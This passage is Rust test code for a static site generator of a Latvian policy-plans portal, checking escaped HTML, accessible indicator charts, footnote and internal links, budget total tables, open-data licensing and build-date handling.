    assert!(!html.contains("<naktī>"));
    // A value's footnote marker still links to the list at the end.
    assert!(html.contains("90%<sup><a href=\"#fn-7\" id=\"fnref-7\""));
    assert!(html.contains("Aprēķinā izmantoti &lt;0-18&gt; gadu"));
    // Institutions named in full link by name to the body of that name; others to their own.
    assert!(html.contains("<li><a href=\"/portals/iestades/vp/\">Valsts policija</a></li>"));
    assert!(html.contains(
        "<li><a href=\"/portals/iestades/nezinama-iestade/\">Nezināma &lt;iestāde&gt;</a></li>"
    ));
    assert!(html.contains("href=\"/portals/plani/strategija/virzieni/1.1/\">1.1. Publisko vietu"));
    assert!(!html.contains("virzieni/H1.1/"), "another area's direction");
    assert!(html.contains("rel=\"next\">Nākamais: H1. Cilvēkresursi"));
    // Each goal's numeric indicators are charted next to its table, with a text alternative.
    let charts = html
        .matches("<svg class=\"chart chart-indicator\" role=\"img\" aria-label=")
        .count();
    assert!(charts >= 1, "the area page charts its indicators");
    assert!(html.contains("<figcaption>1.1.1 "));
}

#[test]
fn indicator_page_has_its_table_and_a_chart_with_a_text_alternative() {
    let site = site();
    let html = page(&site, &index(&urls::indicator("strategija", "1.1.1")));
    assert!(html.contains("<caption>Rādītāja 1.1.1 vērtības</caption>"));
    let svg = html
        .split("<svg")
        .nth(1)
        .expect("a chart")
        .split("</svg>")
        .next()
        .unwrap();
    assert!(svg.contains("role=\"img\""));
    assert!(svg.contains("aria-label=\"1.1.1 Iedzīvotāju, kuri jūtas droši &lt;naktī&gt; &amp; &quot;dienā&quot;, īpatsvars (%): faktiskā vērtība 2021. gadā 75%; mērķi: 2023. gadā 80%, 2024. gadā Palielinās, 2025. gadā - - -, 2026. gadā 88%, 2027. gadā 90%\""));
    assert!(svg.contains("<title>1.1.1 Iedzīvotāju"));
    // Four numbers are bars; the words are written in their columns.
    assert_eq!(svg.matches("<rect").count(), 4);
    assert!(svg.contains(">Palielinās</text>"));
    assert!(!svg.contains("[^"));
    // The name's footnote is linked on this page (the heading is the first marker).
    assert!(html.contains("(%)<sup><a href=\"#fn-7\" id=\"fnref-7\""));
    // The library has no text of this seed: the source is named, not linked.
    // The document by its title, the line linked to the source view.
    assert!(html.contains("rinda 450"));
    assert!(
        html.contains("<span class=\"source-file\">(fails 001_0540a71165f8577a.txt)</span></p>")
    );

    // One chart per institution row.
    let split = page(&site, &index(&urls::indicator("strategija", "1.1.2")));
    assert_eq!(split.matches("<svg").count(), 2);
    assert!(split.contains("<figcaption>VP: faktiskā vērtība"));

    // Only words: no chart, the table says it all.
    let words = page(&site, &index(&urls::indicator("strategija", "H1.1.1")));
    assert!(!words.contains("<svg"));
    assert!(words.contains("grafikā netiek attēlotas"));
    assert!(words.contains("\">-</td>"));
}

#[test]
fn indicator_open_data_links_to_the_indicator_pages() {
    let site = site();
    let json: serde_json::Value =
        serde_json::from_str(site.text("data/indicators.json").unwrap()).unwrap();
    let records = json.as_array().unwrap();
    assert_eq!(records.len(), 4, "one record per indicator row");
    for record in records {
        let url = record["url"].as_str().unwrap();
        let relative = url.strip_prefix(BASE).unwrap();
        assert!(relative.starts_with("plani/strategija/raditaji/"), "{url}");
        page(&site, &format!("{relative}index.html"));
    }
}

#[test]
fn chapter_pages_keep_paragraphs_lists_and_footnotes() {
    let site = site();
    let plan = page(&site, &index(&urls::plan("programma")));
    assert!(plan.contains("<h2>Nodaļas</h2>"));
    assert!(plan.contains(&format!(
        "href=\"{BASE}{}\"",
        urls::chapter("programma", "II")
    )));
    let html = page(&site, &index(&urls::chapter("programma", "I")));
    // Printed in capitals for layout: shown in sentence case, still escaped.
    assert!(html.contains("<h1>I. Programmas apakšmērķis: &lt;uzlabot&gt; sadarbību</h1>"));
    assert!(html.contains(
        "<p>Apakšmērķa sasniegšanai veikti pasākumi.<sup><a href=\"#fn-3\" id=\"fnref-3\""
    ));
    assert!(html
        .contains("<ul>\n<li>grozījumi Darba likumā;</li>\n<li>grozījumi &lt;KL&gt;.</li>\n</ul>"));
    assert!(html.contains("<ul class=\"numbered\">\n<li>17. Programma paredz atbalstu.</li>"));
    assert!(html.contains("<li id=\"fn-3\" value=\"3\">Informācijas avots: LM"));
    assert!(!html.contains('\u{F0B7}'));
    assert!(html.contains("rel=\"next\">Nākamais: II. Programmas apakšmērķis: atbalsts"));
}

#[test]
fn status_overview_puts_the_reports_side_by_side_with_charts() {
    let site = site();
    let html = page(&site, "statuss/index.html");
    assert!(html.contains("id=\"plans-kiberdrosiba\""));
    assert!(html.contains("id=\"plans-programma\""));
    assert!(
        html.contains("id=\"programma-daleji\""),
        "the partly done task is listed"
    );
    assert!(html.contains("/portals/plani/programma/pasakumi/2/"));
    assert_eq!(html.matches("<svg").count(), 2, "one chart per report");
    for svg in html.split("<svg").skip(1) {
        assert!(svg.starts_with(" class=\"chart chart-status\" role=\"img\" aria-label=\""));
        assert!(svg.contains("<title>"));
    }
    // Both charts have the same bars: the statuses either report uses, and "nav norādīts".
    let bars = |svg: &str| svg.matches("<rect").count();
    let charts: Vec<&str> = html.split("<svg").skip(1).collect();
    assert_eq!(bars(charts[0]), bars(charts[1]));
    assert!(charts[0].contains("chart-status-none"));
    assert!(html.contains("Informatīvais ziņojums par programmas izpildi: izpildīts 1, izpildes procesā 0, daļēji izpildīts 1, nav norādīts 0 no 2 uzdevumiem"));
    assert_eq!(html.matches("<div class=\"side-by-side\">").count(), 2);
}

#[test]
fn every_internal_link_resolves() {
    let checked = check_links(&site());
    assert!(checked > 200, "checked {checked} links");
}

/// Asserts that [`link_problems`] finds none; returns how many links it checked.
fn check_links(site: &Site) -> usize {
    let (checked, problems) = link_problems(site);
    assert!(problems.is_empty(), "{}", problems.join("\n"));
    checked
}

/// Every internal `href`/`src` of every page must name a file of the site (a directory URL its
/// `index.html`) and a `#fragment` an `id` of that page; ids must be unique per page. Returns
/// how many links were checked and what is wrong.
fn link_problems(site: &Site) -> (usize, Vec<String>) {
    let mut problems = Vec::new();
    let mut ids: BTreeMap<&str, BTreeSet<String>> = BTreeMap::new();
    for (path, html) in html_pages(site) {
        let found: Vec<String> = attribute_values(html, "id").collect();
        let unique: BTreeSet<String> = found.iter().cloned().collect();
        if found.len() != unique.len() {
            problems.push(format!("{path}: duplicate ids"));
        }
        ids.insert(path, unique);
    }
    let mut checked = 0;
    for (path, html) in html_pages(site) {
        for url in attribute_values(html, "href").chain(attribute_values(html, "src")) {
            if ["https://", "http://", "mailto:"]
                .iter()
                .any(|s| url.starts_with(s))
            {
                continue;
            }
            checked += 1;
            let (target, fragment) = match url.split_once('#') {
                Some((t, f)) => (t, Some(f)),
                None => (url.as_str(), None),
            };
            // A query (the source view's `?rindas=`) is read by the page's script; the file is
            // the path's.
            let target = target.split('?').next().unwrap_or(target);
            let file = if target.is_empty() {
                path.to_string()
            } else if let Some(relative) = target.strip_prefix(BASE) {
                if relative.is_empty() || relative.ends_with('/') {
                    format!("{relative}index.html")
                } else {
                    relative.to_string()
                }
            } else {
                problems.push(format!("{path}: {url} is not under the base URL"));
                continue;
            };
            // The open-data files are written by the data module and checked by its tests.
            if file.starts_with(urls::DATA) {
                continue;
            }
            if !site.files.contains_key(&file) {
                problems.push(format!("{path}: broken link {url}"));
            } else if let Some(fragment) = fragment {
                if !ids
                    .get(file.as_str())
                    .is_some_and(|ids| ids.contains(fragment))
                {
                    problems.push(format!("{path}: missing anchor {url}"));
                }
            }
        }
    }
    (checked, problems)
}

#[test]
fn the_link_checker_reports_broken_links_and_anchors() {
    let mut site = Site::default();
    site.add(
        "index.html",
        "<a href=\"/portals/a/\">a</a> <a href=\"/portals/b/\">b</a> <a href=\"#x\">x</a> \
         <a href=\"/portals/a/#y\">y</a> <a href=\"/portals/a/#z\">z</a> <a href=\"c/\">c</a> \
         <a href=\"https://likumi.lv/\">ext</a>",
    )
    .unwrap();
    site.add("a/index.html", "<p id=\"y\"><p id=\"y\">")
        .unwrap();
    let (checked, problems) = link_problems(&site);
    assert_eq!(checked, 6);
    assert_eq!(
        problems,
        [
            "a/index.html: duplicate ids",
            "index.html: broken link /portals/b/",
            "index.html: missing anchor #x",
            "index.html: missing anchor /portals/a/#z",
            "index.html: c/ is not under the base URL",
        ]
    );
}

#[test]
fn attributes_and_headings_are_read_as_pages_write_them() {
    let html = "<a href=\"/portals/x/?a=1&amp;b=2\" id=\"k\">";
    assert_eq!(
        attribute_values(html, "href").collect::<Vec<_>>(),
        ["/portals/x/?a=1&b=2"]
    );
    assert_eq!(attribute_values(html, "id").collect::<Vec<_>>(), ["k"]);
    assert_eq!(heading_levels("<h1>a</h1><h3 id=x>b</h3><hr>"), [1, 3]);
}

fn html_pages(site: &Site) -> impl Iterator<Item = (&str, &str)> {
    site.files
        .keys()
        .filter(|p| p.ends_with(".html"))
        .map(|p| (p.as_str(), site.text(p).expect("UTF-8 page")))
}

/// Values of `name="…"` attributes, entity-decoded.
fn attribute_values(html: &str, name: &str) -> std::vec::IntoIter<String> {
    let needle = format!(" {name}=\"");
    let values: Vec<String> = html
        .match_indices(&needle)
        .map(|(at, _)| {
            let rest = &html[at + needle.len()..];
            let value = &rest[..rest.find('"').expect("closed attribute")];
            value
                .replace("&quot;", "\"")
                .replace("&#39;", "'")
                .replace("&lt;", "<")
                .replace("&gt;", ">")
                .replace("&amp;", "&")
        })
        .collect();
    values.into_iter()
}

fn heading_levels(html: &str) -> Vec<usize> {
    html.match_indices("<h")
        .filter_map(|(at, _)| {
            let next = html[at + 2..].chars().next()?;
            let after = html[at + 3..].chars().next()?;
            (next.is_ascii_digit() && (after == '>' || after == ' '))
                .then(|| next.to_digit(10).expect("digit") as usize)
        })
        .collect()
}

#[test]
fn the_projects_editorial_pages_render_with_working_links() {
    let content = Content::load(&std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("content"))
        .expect("content/ loads");
    let statement = content
        .pages
        .iter()
        .find(|p| p.slug == "pieejamiba")
        .expect("the accessibility statement exists");
    for section in [
        "Atbilstības statuss",
        "Nepiekļūstams saturs",
        "Kā ziņot",
        "pārbaudes datums",
    ] {
        assert!(statement.markdown.contains(section), "{section}");
    }
    let site = render(&library(), &content, &options()).unwrap();
    let html = page(&site, "pieejamiba/index.html");
    assert!(html.contains("<h2>Atbilstības statuss</h2>"));
    assert!(html.contains("href=\"/portals/saisinajumi/\""));
    check_links(&site);
}

#[test]
fn base_url_root_and_a_missing_theme_folder() {
    let options = RenderOptions {
        base_url: "/".to_string(),
        theme_dir: Some(std::path::PathBuf::from("/nonexistent/theme")),
        build_date: chrono::NaiveDate::from_ymd_opt(2026, 1, 15).unwrap(),
    };
    let site = render(&library(), &content(), &options).unwrap();
    let home = page(&site, "index.html");
    assert!(home.contains("href=\"/iestades/\""));
    assert!(home.contains("<link rel=\"stylesheet\" href=\"/static/style."));
}

/// A funding line of the organised-crime plan's table (000, lines 622–634 and 805–817).
fn funding_line(
    code: &str,
    name: &str,
    kind: crate::model::budget::FundingKind,
    year: i32,
    cents: i64,
) -> crate::model::budget::FundingLine {
    use crate::model::budget::{Cents, FundingLine, Ministry, Period, Programme};
    FundingLine {
        ministry: Some(Ministry {
            name: "Iekšlietu ministrija".to_string(),
            code: Some("14".to_string()),
        }),
        programme: Programme {
            code: code.to_string(),
            name: name.to_string(),
        },
        measures: vec!["1.1".to_string()],
        kind,
        period: Period::Year(year),
        amount: Cents(cents),
        source_lines: (622, 634),
        note: None,
    }
}

/// The body rows of the table whose caption ends with `caption_end`: each row's cell texts.
fn table_rows(html: &str, caption_end: &str) -> Vec<Vec<String>> {
    let start = html
        .find(&format!("{caption_end}</caption>"))
        .unwrap_or_else(|| panic!("no table captioned …{caption_end:?}"));
    let table = &html[start..start + html[start..].find("</table>").unwrap()];
    let body = &table[table.find("<tbody>").unwrap()..table.find("</tbody>").unwrap()];
    let cell = regex::Regex::new(r"(?s)<t[hd][^>]*>(.*?)</t[hd]>").unwrap();
    let tag = regex::Regex::new(r"<[^>]+>").unwrap();
    body.split("<tr>")
        .skip(1)
        .map(|row| {
            cell.captures_iter(row)
                .map(|c| tag.replace_all(&c[1], "").trim().to_string())
                .collect()
        })
        .collect()
}

#[test]
fn budget_totals_table_has_a_row_per_column_with_latvian_amounts() {
    use crate::model::budget::{Budget, Cents, FundingKind, Period, PeriodAmount};
    let mut library = library();
    let police = ("06.01.00", "Valsts policija");
    let bureau = ("42.00.00", "Iekšējās drošības biroja darbība");
    library.plans[0].budget = Budget {
        lines: vec![
            funding_line(bureau.0, bureau.1, FundingKind::Planned, 2023, 332_500),
            funding_line(bureau.0, bureau.1, FundingKind::Planned, 2024, 380_000),
            funding_line(
                police.0,
                police.1,
                FundingKind::Additional,
                2025,
                72_452_600,
            ),
            funding_line(
                police.0,
                police.1,
                FundingKind::Additional,
                2025,
                38_850_000,
            ),
            funding_line(police.0, police.1, FundingKind::Additional, 2026, 2_489_868),
        ],
        within_budget: Vec::new(),
        // The document's total agrees for 2023 and additional 2025, not for 2024, and prints a
        // column (2027) no line fills.
        printed_total: vec![
            PeriodAmount {
                kind: FundingKind::Planned,
                period: Period::Year(2023),
                amount: Cents(332_500),
            },
            PeriodAmount {
                kind: FundingKind::Planned,
                period: Period::Year(2024),
                amount: Cents(390_000),
            },
            PeriodAmount {
                kind: FundingKind::Additional,
                period: Period::Year(2025),
                amount: Cents(111_302_600),
            },
            PeriodAmount {
                kind: FundingKind::Additional,
                period: Period::Year(2027),
                amount: Cents(100_000),
            },
        ],
    };
    let site = render(&library, &content(), &options()).expect("renders");
    let html = page(
        &site,
        &format!("{}index.html", urls::plan_budget("organizeta")),
    );
    let rows = table_rows(html, ": finansējums kopā pa gadiem");
    let nbsp = |s: &str| s.replace(' ', "\u{a0}");
    let expected: Vec<Vec<String>> = [
        ["Plānotais finansējums, 2023", "3 325 €", "3 325 €"],
        [
            "Plānotais finansējums, 2024",
            "3 800 €",
            "3 900 € (nesakrīt)",
        ],
        ["Papildu finansējums, 2025", "1 113 026 €", "1 113 026 €"],
        ["Papildu finansējums, 2026", "24 898,68 €", ""],
        ["Papildu finansējums, 2027", "0 €", "1 000 € (nesakrīt)"],
    ]
    .iter()
    .map(|row| {
        vec![
            row[0].to_string(),
            nbsp(row[1]),
            nbsp(row[2]).replace("\u{a0}(", " ("),
        ]
    })
    .collect();
    assert_eq!(rows, expected);
    assert!(html.contains("Rindu summas nesakrīt ar dokumentā norādīto kopsummu"));
}

#[test]
fn the_data_licence_comes_from_content_data_toml_and_defaults_to_cc_by() {
    let site = render(&library(), &content(), &options()).unwrap();
    let package: serde_json::Value =
        serde_json::from_str(site.text("data/datapackage.json").unwrap()).unwrap();
    assert_eq!(package["licenses"][0]["name"], "CC-BY-4.0");
    assert!(page(&site, "dati/index.html").contains("publiskā sektora informācija"));

    let mut content = content();
    content.data = crate::content::DataSettings {
        license: "CC0-1.0".to_string(),
        license_title: "CC0 1.0 Universal".to_string(),
        license_url: "https://creativecommons.org/publicdomain/zero/1.0/".to_string(),
        source_note: "Avoti: MK rīkojumi.".to_string(),
        publisher: "Iekšlietu ministrija".to_string(),
    };
    let site = render(&library(), &content, &options()).unwrap();
    let package: serde_json::Value =
        serde_json::from_str(site.text("data/datapackage.json").unwrap()).unwrap();
    assert_eq!(package["licenses"][0]["name"], "CC0-1.0");
    assert_eq!(package["sources"][0]["title"], "Avoti: MK rīkojumi.");
    let html = page(&site, "dati/index.html");
    assert!(html.contains(
        "<a href=\"https://creativecommons.org/publicdomain/zero/1.0/\">CC0 1.0 Universal</a>"
    ));
    assert!(html.contains("Iekšlietu ministrija, Politikas plānu portāls. Atvērtie dati"));
    assert!(html.contains("Licence: CC0-1.0."));
}

#[test]
fn the_build_date_is_source_date_epoch_when_set() {
    let now = SystemTime::UNIX_EPOCH + std::time::Duration::from_secs(86_400 * 3);
    let day = |value| day_of(value, now).map(|d| d.to_string());
    assert_eq!(day(None).unwrap(), "1970-01-04");
    assert_eq!(day(Some("1764460800")).unwrap(), "2025-11-30");
    let error = day(Some("yesterday")).unwrap_err().to_string();
    assert!(
        error.contains("SOURCE_DATE_EPOCH=\"yesterday\" is not a number"),
        "{error}"
    );
    assert!(day(Some("99999999999999999")).is_err());
}
